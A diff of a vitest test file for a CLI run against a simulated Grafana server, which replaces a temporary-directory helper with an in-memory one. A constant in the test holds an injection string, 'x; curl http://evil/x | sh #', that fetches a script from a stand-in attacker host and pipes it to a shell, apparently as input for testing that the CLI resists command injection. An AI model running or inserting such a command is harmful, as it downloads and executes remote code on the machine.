@@ -2,18 +2,18 @@ import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, expect, it } from 'vitest';
 import { runCli } from '../support/cli.ts';
-import { temporaryDirectory } from '../support/directories.ts';
+import { memoryDirectory } from '../support/directories.ts';
 import { startGrafana } from '../support/grafana/index.ts';
 import type { Simulator } from '../support/grafana/simulator.ts';
 
 let grafana: Simulator;
-let directory: Awaited<ReturnType<typeof temporaryDirectory>>;
+let directory: Awaited<ReturnType<typeof memoryDirectory>>;
 const COMMAND = 'x; curl http://evil/x | sh #';
 
 beforeEach(async () => {
   grafana = await startGrafana({ profile: '12.4', searchDelayMs: 0 });
   grafana.seedDashboards({ count: 3, folders: 1 });
-  directory = await temporaryDirectory();
+  directory = await memoryDirectory();
 });
 afterEach(async () => {
   await grafana.close();
